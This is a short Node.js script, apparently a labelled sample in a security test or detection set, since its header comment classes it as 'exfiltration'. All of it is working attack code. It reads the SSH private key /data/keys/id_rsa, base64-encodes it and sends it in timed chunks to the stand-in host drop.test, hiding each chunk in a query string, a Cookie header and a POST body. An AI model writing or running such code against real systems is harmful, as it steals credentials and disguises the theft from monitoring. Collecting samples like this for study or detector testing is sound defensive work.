// class: exfiltration; possible: low medium; needs: data
const fs = require('fs'), http = require('http');
const key = fs.readFileSync('/data/keys/id_rsa').toString('base64');
let i = 0;
const t = setInterval(() => {
  const bit = key.slice(i * 500, i * 500 + 500); i++;
  if (!bit) { clearInterval(t); return; }
  http.request({ host: 'drop.test', path: '/i.gif?z=' + encodeURIComponent(bit.slice(0, 250)), method: 'POST', headers: { Cookie: 'sid=' + bit } }, r => r.resume()).end(bit);
}, 500);
